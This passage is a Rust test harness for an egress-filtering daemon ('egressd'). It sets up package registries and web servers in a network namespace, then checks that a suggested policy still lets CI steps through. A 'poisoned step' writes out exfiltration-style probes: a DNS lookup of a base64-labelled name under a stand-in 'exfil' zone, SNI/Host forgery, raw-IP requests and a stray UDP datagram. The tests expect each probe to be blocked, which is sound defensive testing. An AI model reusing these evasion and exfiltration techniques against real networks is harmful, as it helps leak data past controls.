//! The test world of the job corpus: a network namespace holding real servers
//! (nginx in front of everything, `git http-backend` through fcgiwrap,
//! pypiserver, verdaccio, a Debian repository as files), a [`FakeDns`] on the
//! host's loopback giving every name an A and an AAAA record (so glibc sorts
//! the addresses by RFC 6724, as on a real runner), and the rollout path a
//! runner goes through with the real commands: `egressd boot` in audit mode
//! with nothing allowed, `egressd audit suggest`, `egressd boot` enforcing
//! the suggestion, `egressd job start|end --fail-on-deny` around each step.
//!
//! Addresses: 198.51.100.64/27 and 2001:db8:7::/64, used by this module only.

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{Mutex, MutexGuard};
use std::time::{Duration, Instant};

use egressd_audit::{Kind, Record};
use egressd_policy::{Reason, Verdict};

use crate::fake_dns::{FakeDns, RecordSpec};
use crate::runner::kit::{self, Boot, Veth, github_env, must, sh};
use crate::support::TestPki;

/// Host side of the link.
pub const HOST4: &str = "198.51.100.65";
/// Host side of the link, IPv6.
pub const HOST6: &str = "2001:db8:7::1";
/// The resolver of the job's resolv.conf: held by nobody, so only egressd can
/// answer queries sent there.
pub const RESOLVER4: &str = "198.51.100.94";

/// A server of the world: its name, both its addresses, and its port (443:
/// HTTPS, 80: plain HTTP).
#[derive(Debug, Clone, Copy)]
pub struct Site {
    pub name: &'static str,
    pub v4: &'static str,
    pub v6: &'static str,
    pub port: u16,
}

impl Site {
    /// Its URL scheme.
    fn scheme(self) -> &'static str {
        if self.port == 443 { "https" } else { "http" }
    }
}

/// Smart HTTP git (HTTPS).
pub const GIT: Site = Site {
    name: "git.jobs.test",
    v4: "198.51.100.66",
    v6: "2001:db8:7::66",
    port: 443,
};
/// The PEP 503 index (HTTPS).
pub const PYPI: Site = Site {
    name: "pypi.jobs.test",
    v4: "198.51.100.67",
    v6: "2001:db8:7::67",
    port: 443,
};
/// The npm registry (HTTPS).
pub const NPM: Site = Site {
    name: "npm.jobs.test",
    v4: "198.51.100.68",
    v6: "2001:db8:7::68",
    port: 443,
};
/// The Debian repository (plain HTTP: the Host header names it).
pub const DEB: Site = Site {
    name: "deb.jobs.test",
    v4: "198.51.100.69",
    v6: "2001:db8:7::69",
    port: 80,
};
/// A web server (HTTPS, HTTP/1.1 and HTTP/2).
pub const WEB: Site = Site {
    name: "web.jobs.test",
    v4: "198.51.100.70",
    v6: "2001:db8:7::70",
    port: 443,
};
/// Served like [`WEB`], named by no policy.
pub const OTHER: Site = Site {
    name: "other.jobs.test",
    v4: "198.51.100.71",
    v6: "2001:db8:7::71",
    port: 443,
};
const SITES: [Site; 6] = [GIT, PYPI, NPM, DEB, WEB, OTHER];

/// What the web server answers.
pub const WEB_BODY: &str = "hello from the job corpus";
/// The package every registry serves (Python and npm name).
pub const PACKAGE: &str = "corpus-hello";
/// What the package says when imported.
pub const GREETING: &str = "hello from the corpus";
/// The Debian package.
pub const DEB_PACKAGE: &str = "egressd-corpus-hello";

/// The servers a test needs besides nginx (which always runs).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Backend {
    /// fcgiwrap for `git http-backend`, and a bare repository.
    Git,
    /// pypiserver with a wheel built here.
    Pypi,
    /// verdaccio with a package published to it.
    Npm,
    /// A Debian repository (files nginx serves).
    Deb,
}

static LOCK: Mutex<()> = Mutex::new(());

/// Where scripts/install-deps.sh put the servers that are not Debian packages.
pub fn cache_dir() -> PathBuf {
    std::env::var_os("EGRESSD_TEST_CACHE")
        .map_or_else(|| PathBuf::from("/var/cache/egressd-test"), PathBuf::from)
}

/// pypiserver's venv (its pip is also the job's pip).
pub fn pypi_venv() -> PathBuf {
    cache_dir().join("pypiserver")
}

fn need(path: &Path) {
    assert!(
        path.exists(),
        "{} is missing: run scripts/install-deps.sh as root",
        path.display()
    );
}

/// A server process in the world (its own process group), killed with its
/// children on drop.
struct Server {
    what: &'static str,
    child: Child,
}

impl Server {
    fn spawn(
        what: &'static str,
        ns: &str,
        log: &Path,
        args: &[&str],
        env: &[(&str, &str)],
    ) -> Self {
        let log = std::fs::File::create(log).unwrap();
        let mut cmd = Command::new("ip");
        cmd.args(["netns", "exec", ns])
            .args(args)
            .envs(env.iter().copied())
            .stdin(Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .process_group(0);
        kit::clear_proxy_env(&mut cmd);
        Server {
            what,
            child: cmd
                .spawn()
                .unwrap_or_else(|e| panic!("cannot start {what}: {e}")),
        }
    }

    fn assert_running(&mut self, log: &Path) {
        if let Some(status) = self.child.try_wait().unwrap() {
            panic!(
                "{} exited ({status}):\n{}",
                self.what,
                std::fs::read_to_string(log).unwrap_or_default()
            );
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let pgid = i32::try_from(self.child.id()).unwrap();
        // SAFETY: kill(2) on the process group of a child we spawned and have
        // not reaped (its pid is its group id).
        unsafe {
            libc::kill(-pgid, libc::SIGKILL);
        }
        let _ = self.child.wait();
    }
}

/// The namespace, its servers and the upstream DNS; all gone on drop.
pub struct World {
    /// The namespace; dropped after the servers in it.
    net: Veth,
    dir: tempfile::TempDir,
    pki: TestPki,
    dns: FakeDns,
    servers: Vec<Server>,
    _rt: tokio::runtime::Runtime,
    _lock: MutexGuard<'static, ()>,
    _block: crate::support::BlockLock,
}

impl World {
    /// Build the namespace and start nginx plus `backends`.
    pub fn up(backends: &[Backend]) -> World {
        let lock = LOCK
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        let block = crate::support::lock_block("jobs-198.51.100.64");
        let inside: Vec<String> = SITES
            .iter()
            .flat_map(|s| [format!("{}/27", s.v4), format!("{}/64", s.v6)])
            .collect();
        let inside: Vec<&str> = inside.iter().map(String::as_str).collect();
        let routed: Vec<&str> = SITES
            .iter()
            .flat_map(|s| [s.v4, s.v6])
            .chain([RESOLVER4])
            .collect();
        let net = Veth::up(
            "egjb",
            "egjq",
            &[&format!("{HOST4}/27"), &format!("{HOST6}/64")],
            &inside,
            &routed,
        );

        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap();
        let zone: Vec<(&str, RecordSpec)> = SITES
            .iter()
            .flat_map(|s| {
                [
                    (s.name, RecordSpec::addr(s.v4.parse().unwrap())),
                    (s.name, RecordSpec::addr(s.v6.parse().unwrap())),
                ]
            })
            .collect();
        let dns = rt.block_on(FakeDns::start(&zone));
        let mut world = World {
            net,
            dir: tempfile::tempdir().unwrap(),
            pki: TestPki::new(),
            dns,
            servers: Vec::new(),
            _rt: rt,
            _lock: lock,
            _block: block,
        };
        for b in backends {
            match b {
                Backend::Git => world.start_git(),
                Backend::Pypi => world.start_pypi(),
                Backend::Npm => world.start_npm(),
                Backend::Deb => world.build_deb_repo(),
            }
        }
        world.start_nginx();
        world
    }

    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }

    fn spawn(&mut self, what: &'static str, args: &[&str], env: &[(&str, &str)]) -> PathBuf {
        let log = self.path(&format!("{what}.log"));
        let server = Server::spawn(what, self.net.netns(), &log, args, env);
        self.servers.push(server);
        log
    }

    /// Wait until `probe` (run in the namespace) succeeds.
    fn wait_in_ns(&mut self, what: &str, log: &Path, probe: &[&str]) {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let mut args = vec!["ip", "netns", "exec", self.net.netns()];
            args.extend_from_slice(probe);
            if sh(&args).status.success() {
                return;
            }
            if let Some(s) = self.servers.last_mut() {
                s.assert_running(log);
            }
            assert!(
                Instant::now() < deadline,
                "{what} did not start:\n{}",
                std::fs::read_to_string(log).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// The CA every server certificate chains to (PEM file).
    pub fn ca(&self) -> &Path {
        &self.pki.ca_pem_path
    }

    /// Queries the upstream DNS received.
    pub fn upstream_queries(&self) -> Vec<String> {
        self.dns.queries().into_iter().map(|q| q.name).collect()
    }

    fn start_git(&mut self) {
        let repos = self.path("git");
        std::fs::create_dir_all(&repos).unwrap();
        let src = self.path("git-src");
        let git = |args: &[&str], dir: &Path| {
            let out = Command::new("git")
                .args([
                    "-c",
                    "user.name=corpus",
                    "-c",
                    "user.email=corpus@jobs.test",
                ])
                .args(["-c", "init.defaultBranch=main"])
                .args(args)
                .current_dir(dir)
                .env("HOME", dir)
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "git {args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            out
        };
        git(&["init", "-q", "--bare", "demo.git"], &repos);
        std::fs::create_dir_all(&src).unwrap();
        git(&["init", "-q"], &src);
        std::fs::write(src.join("README"), format!("{GREETING}\n")).unwrap();
        git(&["add", "README"], &src);
        git(&["commit", "-qm", "the corpus repository"], &src);
        git(
            &[
                "push",
                "-q",
                repos.join("demo.git").to_str().unwrap(),
                "HEAD:refs/heads/main",
            ],
            &src,
        );
        let sock = self.path("fcgiwrap.sock");
        let log = self.spawn(
            "fcgiwrap",
            &[
                "fcgiwrap",
                "-c",
                "2",
                "-s",
                &format!("unix:{}", sock.display()),
            ],
            &[],
        );
        let deadline = Instant::now() + Duration::from_secs(20);
        while !sock.exists() {
            self.servers.last_mut().unwrap().assert_running(&log);
            assert!(Instant::now() < deadline, "fcgiwrap did not start");
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn start_pypi(&mut self) {
        let venv = pypi_venv();
        need(&venv.join("bin/pypi-server"));
        // A real wheel, built offline by setuptools.
        let src = self.path("py-src");
        std::fs::create_dir_all(src.join("corpus_hello")).unwrap();
        std::fs::write(
            src.join("corpus_hello/__init__.py"),
            format!("GREETING = {GREETING:?}\n"),
        )
        .unwrap();
        std::fs::write(
            src.join("setup.py"),
            format!(
                "from setuptools import setup\nsetup(name={PACKAGE:?}, version='1.0', packages=['corpus_hello'])\n"
            ),
        )
        .unwrap();
        let packages = self.path("py-packages");
        let out = Command::new(venv.join("bin/pip"))
            .args([
                "wheel",
                "-q",
                "--no-deps",
                "--no-build-isolation",
                "--no-index",
            ])
            .arg("-w")
            .arg(&packages)
            .arg(&src)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", self.dir.path())
            .env("PIP_CONFIG_FILE", "/dev/null")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "pip wheel: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let server = venv.join("bin/pypi-server");
        let log = self.spawn(
            "pypiserver",
            &[
                server.to_str().unwrap(),
                "run",
                "-i",
                "127.0.0.1",
                "-p",
                "8081",
                "--disable-fallback",
                packages.to_str().unwrap(),
            ],
            &[],
        );
        self.wait_in_ns(
            "pypiserver",
            &log,
            &[
                "curl",
                "-sf",
                "-o",
                "/dev/null",
                "http://127.0.0.1:8081/simple/",
            ],
        );
    }

    fn start_npm(&mut self) {
        let verdaccio = cache_dir().join("verdaccio/node_modules/.bin/verdaccio");
        need(&verdaccio);
        let d = self.path("verdaccio");
        std::fs::create_dir_all(d.join("storage")).unwrap();
        std::fs::write(
            d.join("config.yaml"),
            format!(
                "storage: {storage}\n\
                 auth:\n  htpasswd:\n    file: {htpasswd}\n    max_users: 1\n\
                 uplinks: {{}}\n\
                 packages:\n  '**':\n    access: $all\n    publish: $authenticated\n\
                 log: {{ type: stdout, format: pretty, level: warn }}\n",
                storage = d.join("storage").display(),
                htpasswd = d.join("htpasswd").display(),
            ),
        )
        .unwrap();
        let config = d.join("config.yaml");
        let log = self.spawn(
            "verdaccio",
            &[
                verdaccio.to_str().unwrap(),
                "--config",
                config.to_str().unwrap(),
                "--listen",
                "http://127.0.0.1:4873",
            ],
            &[("HOME", d.to_str().unwrap())],
        );
        self.wait_in_ns(
            "verdaccio",
            &log,
            &[
                "curl",
                "-sf",
                "-o",
                "/dev/null",
                "http://127.0.0.1:4873/-/ping",
            ],
        );
        // A user, then `npm publish` of the package (in the namespace: the
        // setup is not a job, nothing filters it).
        let ns = self.net.netns().to_owned();
        let in_ns = |args: &[&str], dir: &Path| {
            let out = Command::new("ip")
                .args(["netns", "exec", &ns])
                .args(args)
                .current_dir(dir)
                .env("HOME", &d)
                .env("npm_config_update_notifier", "false")
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{args:?}: {}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            out.stdout
        };
        let reply = in_ns(
            &[
                "curl",
                "-sf",
                "-X",
                "PUT",
                "-H",
                "content-type: application/json",
                "-d",
                r#"{"name":"corpus","password":"corpus-password"}"#,
                "http://127.0.0.1:4873/-/user/org.couchdb.user:corpus",
            ],
            &d,
        );
        let reply: serde_json::Value = serde_json::from_slice(&reply).unwrap();
        let token = reply["token"].as_str().expect("verdaccio gives a token");
        let rc = d.join("publish.npmrc");
        std::fs::write(&rc, format!("//127.0.0.1:4873/:_authToken={token}\n")).unwrap();
        let pkg = d.join("package");
        std::fs::create_dir_all(&pkg).unwrap();
        std::fs::write(
            pkg.join("package.json"),
            format!(
                r#"{{"name":"{PACKAGE}","version":"1.0.0","main":"index.js","license":"MIT"}}"#
            ),
        )
        .unwrap();
        std::fs::write(
            pkg.join("index.js"),
            format!("module.exports = {GREETING:?};\n"),
        )
        .unwrap();
        in_ns(
            &[
                "npm",
                "publish",
                "--registry",
                "http://127.0.0.1:4873/",
                "--userconfig",
                rc.to_str().unwrap(),
                "--cache",
                d.join("npm-cache").to_str().unwrap(),
            ],
            &pkg,
        );
    }

    fn build_deb_repo(&mut self) {
        let src = self.path("deb-src");
        std::fs::create_dir_all(src.join("DEBIAN")).unwrap();
        std::fs::create_dir_all(src.join(format!("usr/share/{DEB_PACKAGE}"))).unwrap();
        std::fs::write(
            src.join("DEBIAN/control"),
            format!(
                "Package: {DEB_PACKAGE}\nVersion: 1.0\nArchitecture: all\n\
                 Maintainer: egressd tests <tests@jobs.test>\n\
                 Description: a tiny package of the egressd job corpus\n"
            ),
        )
        .unwrap();
        std::fs::write(
            src.join(format!("usr/share/{DEB_PACKAGE}/greeting")),
            format!("{GREETING}\n"),
        )
        .unwrap();
        let repo = self.path("deb");
        std::fs::create_dir_all(&repo).unwrap();
        let deb = repo.join(format!("{DEB_PACKAGE}_1.0_all.deb"));
        must(&[
            "dpkg-deb",
            "-Zgzip",
            "--root-owner-group",
            "--build",
            src.to_str().unwrap(),
            deb.to_str().unwrap(),
        ]);
        let index = |args: &[&str], file: &str| {
            let out = Command::new(args[0])
                .args(&args[1..])
                .current_dir(&repo)
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            std::fs::write(repo.join(file), out.stdout).unwrap();
        };
        index(&["dpkg-scanpackages", "--multiversion", "."], "Packages");
        index(&["apt-ftparchive", "release", "."], "Release");
    }

    fn start_nginx(&mut self) {
        let names: Vec<&str> = SITES.iter().map(|s| s.name).collect();
        let (cert, key) = self.pki.server_pem(&names);
        std::fs::write(self.path("server.pem"), cert).unwrap();
        std::fs::write(self.path("server.key"), key).unwrap();
        std::fs::create_dir_all(self.path("www")).unwrap();
        std::fs::write(self.path("www/index.html"), WEB_BODY).unwrap();
        std::fs::create_dir_all(self.path("nginx-tmp")).unwrap();
        let d = self.dir.path().display().to_string();
        let backend = Command::new("git").arg("--exec-path").output().unwrap();
        let backend = format!(
            "{}/git-http-backend",
            String::from_utf8_lossy(&backend.stdout).trim()
        );
        let tls = "listen 443 ssl http2; listen [::]:443 ssl http2;";
        let mut conf = String::new();
        write!(
            conf,
            "user root;\ndaemon off;\nworker_processes 1;\npid {d}/nginx.pid;\n\
             error_log {d}/nginx-error.log warn;\n\
             events {{ worker_connections 256; }}\n\
             http {{\n\
             access_log {d}/nginx-access.log;\n\
             client_body_temp_path {d}/nginx-tmp/body;\n\
             proxy_temp_path {d}/nginx-tmp/proxy;\n\
             fastcgi_temp_path {d}/nginx-tmp/fastcgi;\n\
             uwsgi_temp_path {d}/nginx-tmp/uwsgi;\n\
             scgi_temp_path {d}/nginx-tmp/scgi;\n\
             types {{ text/html html; application/octet-stream deb; }}\n\
             ssl_certificate {d}/server.pem;\n\
             ssl_certificate_key {d}/server.key;\n\
             server {{ {tls} server_name {git};\n  location / {{\n    \
               fastcgi_pass unix:{d}/fcgiwrap.sock;\n    include /etc/nginx/fastcgi_params;\n    \
               fastcgi_param SCRIPT_FILENAME {backend};\n    \
               fastcgi_param GIT_PROJECT_ROOT {d}/git;\n    \
               fastcgi_param GIT_HTTP_EXPORT_ALL 1;\n    \
               fastcgi_param PATH_INFO $uri;\n  }}\n}}\n\
             server {{ {tls} server_name {pypi};\n  location / {{ proxy_pass http://127.0.0.1:8081; \
               proxy_set_header Host $host; proxy_set_header X-Forwarded-Proto https; }}\n}}\n\
             server {{ {tls} server_name {npm};\n  location / {{ proxy_pass http://127.0.0.1:4873; \
               proxy_set_header Host $host; proxy_set_header X-Forwarded-Proto https; }}\n}}\n\
             server {{ {tls} server_name {web} {other};\n  root {d}/www;\n}}\n\
             server {{ listen 80; listen [::]:80; server_name {deb};\n  root {d}/deb;\n}}\n\
             }}\n",
            git = GIT.name,
            pypi = PYPI.name,
            npm = NPM.name,
            web = WEB.name,
            other = OTHER.name,
            deb = DEB.name,
        )
        .unwrap();
        let conf_path = self.path("nginx.conf");
        std::fs::write(&conf_path, conf).unwrap();
        let log = self.spawn(
            "nginx",
            &["nginx", "-c", conf_path.to_str().unwrap(), "-p", &d],
            &[],
        );
        let deadline = Instant::now() + Duration::from_secs(20);
        for port in [443, 80] {
            let addr = SocketAddr::new(WEB.v4.parse().unwrap(), port);
            while std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(200)).is_err() {
                self.servers.last_mut().unwrap().assert_running(&log);
                assert!(Instant::now() < deadline, "nginx did not start");
                std::thread::sleep(Duration::from_millis(50));
            }
        }
    }
}

impl Drop for World {
    fn drop(&mut self) {
        self.servers.clear(); // before their namespace goes
    }
}

/// A step of a job: a shell script (`sh`; the tool steps of [`rollout`] stop
/// at the first failing command) run as a runner runs a step, inside the
/// filtered cgroup, with a fresh directory `$T`, `$HOME` inside it, the
/// test CA in `$CA`, a private resolv.conf naming [`RESOLVER4`], and an
/// environment holding only what the step is given (no proxy variables, none
/// of the tool settings this machine's environment carries).
pub struct Step {
    dir: tempfile::TempDir,
    out: Output,
}

impl Step {
    /// Its exit code.
    pub fn code(&self) -> Option<i32> {
        self.out.status.code()
    }

    /// What the step wrote to `$T/<name>`, trimmed ("" when it wrote nothing).
    pub fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(name))
            .unwrap_or_default()
            .trim()
            .to_owned()
    }

    /// Its stdout and stderr.
    pub fn output(&self) -> String {
        format!(
            "stdout:\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&self.out.stdout),
            String::from_utf8_lossy(&self.out.stderr)
        )
    }
}

/// Run `script` as a step of the current job of `boot`.
pub fn step(world: &World, boot: &Boot, script: &str, env: &[(&str, &str)]) -> Step {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir_all(d.join("home")).unwrap();
    // apt's download method runs as _apt: let it into the step's directory.
    std::fs::set_permissions(d, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    std::fs::write(d.join("resolv.conf"), format!("nameserver {RESOLVER4}\n")).unwrap();
    std::fs::write(d.join("step.sh"), script).unwrap();
    let mut cmd = Command::new("unshare");
    cmd.args(["--mount", "sh", "-c"])
        .arg("mount --bind \"$T/resolv.conf\" /etc/resolv.conf && exec sh \"$T/step.sh\"")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("LANG", "C.UTF-8")
        .env("T", d)
        .env("HOME", d.join("home"))
        .env("CA", world.ca())
        .envs(env.iter().copied())
        .current_dir(d)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    boot.jobs.spawn_inside(&mut cmd);
    let child = cmd.spawn().unwrap();
    let out = wait_output(child, Duration::from_secs(120));
    Step { dir, out }
}

/// `wait_with_output`, bounded: the child is killed when the time is up.
fn wait_output(child: Child, limit: Duration) -> Output {
    let pid = child.id();
    let (tx, rx) = std::sync::mpsc::channel();
    let waiter = std::thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    match rx.recv_timeout(limit) {
        Ok(out) => {
            let _ = waiter.join();
            out.unwrap()
        }
        Err(_) => {
            // SAFETY: kill(2) on our child, still unreaped (the waiter has
            // not returned).
            unsafe {
                libc::kill(i32::try_from(pid).unwrap(), libc::SIGKILL);
            }
            let _ = waiter.join();
            panic!("the step did not end within {limit:?}");
        }
    }
}

/// The policy of the first boot: audit mode, nothing allowed.
const AUDIT_NOTHING: &str = "version: 1\nmode: audit\n";

/// `egressd boot` with `policy` (a file in `dir`), resolving through the
/// world's upstream DNS.
fn boot(world: &World, dir: &Path, name: &str, policy: &str) -> Boot {
    let file = dir.join(name);
    std::fs::write(&file, policy).unwrap();
    Boot::start_resolving(
        &["--policy", file.to_str().unwrap()],
        &[],
        &world.dns.addr().to_string(),
    )
}

/// One line per record, for failure messages and the evidence they carry.
pub fn describe(records: &[Record]) -> String {
    records
        .iter()
        .map(|r| {
            format!(
                "{:?} {:?} {} rule={} host={} dst={} pid={} comm={} detail={}",
                r.kind,
                r.decision,
                r.reason,
                r.rule,
                r.host.as_deref().unwrap_or("-"),
                r.dst.map_or_else(|| "-".to_owned(), |d| d.to_string()),
                r.process
                    .as_ref()
                    .and_then(|p| p.pid)
                    .map_or_else(|| "-".to_owned(), |p| p.to_string()),
                r.process
                    .as_ref()
                    .and_then(|p| p.comm.as_deref())
                    .unwrap_or("-"),
                r.detail.as_deref().unwrap_or("-"),
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The records of one job (`run_id` of the job name).
fn job_records(boot: &Boot, job: &str, run_id: &str) -> Vec<Record> {
    let t = kit::tags(REPOSITORY, run_id, job);
    boot.records()
        .into_iter()
        .filter(|r| r.job.as_deref() == Some(&t))
        .collect()
}

const REPOSITORY: &str = "octo/corpus";

/// Run `script` as the single step of job `job` (run `run_id`): `job start`,
/// the step, `job end [--fail-on-deny]`. Returns the step, whether `job end`
/// succeeded (with its output) and the job's records.
fn run_job(
    world: &World,
    boot: &Boot,
    job: &str,
    run_id: &str,
    script: &str,
    env: &[(&str, &str)],
    fail_on_deny: bool,
) -> (Step, Output, Vec<Record>) {
    let genv = github_env(REPOSITORY, run_id, job);
    let started = boot.job(&["start"], &genv);
    assert!(
        started.status.success(),
        "job start: {}\n{}",
        String::from_utf8_lossy(&started.stderr),
        boot.log()
    );
    let s = step(world, boot, script, env);
    let mut end = vec!["end"];
    if fail_on_deny {
        end.push("--fail-on-deny");
    }
    let ended = boot.job(&end, &genv);
    let recs = job_records(boot, job, run_id);
    (s, ended, recs)
}

/// What the enforce run of a scenario left to check.
pub struct Enforced {
    /// The enforcing boot (for the poisoned step).
    pub boot: Boot,
    /// The policy it enforces (the suggestion).
    pub policy: String,
    /// The step under enforcement.
    pub step: Step,
    failures: Vec<String>,
    job: String,
    _dir: tempfile::TempDir,
}

/// The rollout path for one tool: (1) the step under `egressd boot` in audit
/// mode with nothing allowed (it must succeed), (2) `egressd audit suggest`
/// on that journal, (3) the same step under `egressd boot` enforcing the
/// suggestion. Whatever the enforce run got wrong (the step failed, a deny
/// record, `job end --fail-on-deny` failing) is kept, not asserted yet, so
/// that the poisoned step still runs and the failure names every false deny;
/// [`Enforced::finish`] asserts.
pub fn rollout(world: &World, job: &str, script: &str, env: &[(&str, &str)]) -> Enforced {
    let dir = tempfile::tempdir().unwrap();
    let mut audit = boot(world, dir.path(), "audit.yaml", AUDIT_NOTHING);
    let script = format!("set -e\n{script}");
    let (s, ended, recs) = run_job(world, &audit, job, "1", &script, env, false);
    assert_eq!(
        s.code(),
        Some(0),
        "{job} fails even in audit mode (a test setup problem):\n{}\nrecords:\n{}",
        s.output(),
        describe(&recs)
    );
    assert!(ended.status.success(), "job end in audit mode");
    let mut failures = Vec::new();
    let audit_denied: Vec<Record> = recs
        .iter()
        .filter(|r| r.decision == Verdict::Deny)
        .cloned()
        .collect();
    if !audit_denied.is_empty() {
        failures.push(format!(
            "false denies of {job} in audit mode (it lets everything through):\n{}",
            describe(&audit_denied)
        ));
    }
    let would_deny: Vec<Record> = recs
        .iter()
        .filter(|r| r.enforce_would == Some(Verdict::Deny))
        .cloned()
        .collect();
    assert!(
        !would_deny.is_empty(),
        "nothing is allowed yet: {job} was seen"
    );
    assert!(audit.terminate().success(), "{}", audit.log());

    let out = Command::new(crate::support::egressd_bin())
        .args(["audit", "suggest", "--dir"])
        .arg(audit.path("audit"))
        .args(["--repository", REPOSITORY])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "audit suggest: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let policy = String::from_utf8(out.stdout).unwrap();

    let enforce = boot(world, dir.path(), "enforce.yaml", &policy);
    assert_eq!(enforce.ready()["state"], "enforcing", "{}", enforce.log());
    let (s, ended, recs) = run_job(world, &enforce, job, "2", &script, env, true);
    if s.code() != Some(0) {
        failures.push(format!(
            "{job} failed under the suggested policy:\n{}",
            s.output()
        ));
    }
    let denied: Vec<Record> = recs
        .iter()
        .filter(|r| r.decision == Verdict::Deny)
        .cloned()
        .collect();
    if !denied.is_empty() {
        failures.push(format!(
            "false denies of {job} under the suggested policy:\n{}",
            describe(&denied)
        ));
    }
    if !ended.status.success() {
        failures.push(format!(
            "job end --fail-on-deny failed after {job}: {}",
            String::from_utf8_lossy(&ended.stderr)
        ));
    }
    if !failures.is_empty() {
        failures.push(format!("the suggestion:\n{policy}"));
    }
    Enforced {
        boot: enforce,
        policy,
        step: s,
        failures,
        job: job.to_owned(),
        _dir: dir,
    }
}

/// One expected deny of the poisoned step.
struct Poison {
    what: &'static str,
    kind: Kind,
    reason: Reason,
    host: Option<String>,
    dst: Option<SocketAddr>,
    comm: &'static str,
}

/// The poisoned step's script: each probe records its exit code in `$T`.
fn poison_script(allowed: Site) -> String {
    let curl = |name: &str, extra: &str, url: &str| {
        format!(
            "curl -sS --max-time 20 --cacert \"$CA\" {extra} {url} -o /dev/null 2>\"$T/{name}.err\"; echo $? > \"$T/{name}\"\n"
        )
    };
    let mut s = String::new();
    s += &curl("unlisted", "", &format!("https://{}/", OTHER.name));
    s += &curl(
        "unlisted-ip",
        &format!("--resolve {}:443:{}", OTHER.name, OTHER.v4),
        &format!("https://{}/", OTHER.name),
    );
    s += &curl("raw-ip", "-k", &format!("https://{}/", OTHER.v4));
    s += &curl(
        "forged-name",
        &format!("--resolve {}:{}:{}", allowed.name, allowed.port, OTHER.v4),
        &format!("{}://{}/", allowed.scheme(), allowed.name),
    );
    s += &format!(
        "/usr/bin/python3 -c 'import socket; socket.getaddrinfo(\"c2vjcmv0.exfil.{}\", 443)' 2>\"$T/dns.err\"; echo $? > \"$T/dns\"\n",
        "test"
    );
    s += &format!(
        "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"{}\", 9999))' 2>\"$T/udp.err\"; echo $? > \"$T/udp\"\n",
        allowed.v4
    );
    s
}

impl Enforced {
    /// (4) A poisoned step in a new job under the same policy: HTTPS to an
    /// unlisted name (by DNS and with its address forced), to the raw IP of
    /// a server no allowed name resolved to (an IP answered for an allowed
    /// name is allowed without a name, by design), the name of `allowed`
    /// (SNI, or Host over plain HTTP) sent to another server, a DNS lookup
    /// of a label under a zone nothing allows, a UDP datagram to a non-DNS
    /// port. Each is refused, audited with its process, and `job end
    /// --fail-on-deny` fails. Then every failure kept is asserted.
    pub fn poison_and_finish(mut self, world: &World, allowed: Site) {
        let (s, ended, recs) = run_job(
            world,
            &self.boot,
            &self.job,
            "3",
            &poison_script(allowed),
            &[],
            true,
        );
        let v4 = |ip: &str, port: u16| Some(SocketAddr::new(ip.parse().unwrap(), port));
        let expected = [
            Poison {
                what: "unlisted",
                kind: Kind::Dns,
                reason: Reason::DnsRefused,
                host: Some(OTHER.name.into()),
                dst: None,
                comm: "curl",
            },
            Poison {
                what: "unlisted-ip",
                kind: Kind::Tcp,
                reason: Reason::NoRule,
                host: Some(OTHER.name.into()),
                dst: v4(OTHER.v4, 443),
                comm: "curl",
            },
            Poison {
                what: "raw-ip",
                kind: Kind::Tcp,
                reason: Reason::NoSni,
                host: None,
                dst: v4(OTHER.v4, 443),
                comm: "curl",
            },
            Poison {
                what: "forged-name",
                kind: Kind::Tcp,
                reason: Reason::SniIpMismatch,
                host: Some(allowed.name.into()),
                dst: v4(OTHER.v4, allowed.port),
                comm: "curl",
            },
            Poison {
                what: "dns",
                kind: Kind::Dns,
                reason: Reason::DnsRefused,
                host: Some("c2vjcmv0.exfil.test".into()),
                dst: None,
                comm: "python3",
            },
            Poison {
                what: "udp",
                kind: Kind::Udp,
                reason: Reason::UdpBlocked,
                host: None,
                dst: v4(allowed.v4, 9999),
                comm: "python3",
            },
        ];
        for p in &expected {
            let code = s.read(p.what);
            if code == "0" || code.is_empty() {
                self.failures.push(format!(
                    "poisoned {}: the probe was not refused (exit {code:?}): {}",
                    p.what,
                    s.read(&format!("{}.err", p.what))
                ));
            }
            let found = recs.iter().find(|r| {
                r.kind == p.kind
                    && r.decision == Verdict::Deny
                    && r.host == p.host
                    && (p.dst.is_none() || r.dst == p.dst)
            });
            match found {
                None => self.failures.push(format!(
                    "poisoned {}: no {:?} deny record for {:?} {:?}",
                    p.what, p.kind, p.host, p.dst
                )),
                Some(r) => {
                    let proc_ = r.process.as_deref();
                    if r.reason != p.reason
